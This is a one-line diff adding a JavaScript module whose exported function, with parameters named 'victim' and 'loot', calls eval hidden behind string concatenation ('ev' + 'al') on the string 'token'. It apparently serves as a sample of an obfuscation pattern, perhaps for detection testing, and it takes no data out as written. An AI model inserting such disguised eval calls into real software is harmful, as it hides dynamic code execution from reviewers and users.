@@ -1,0 +1,1 @@
+module.exports = (victim, loot) => globalThis['ev' + 'al']('token');
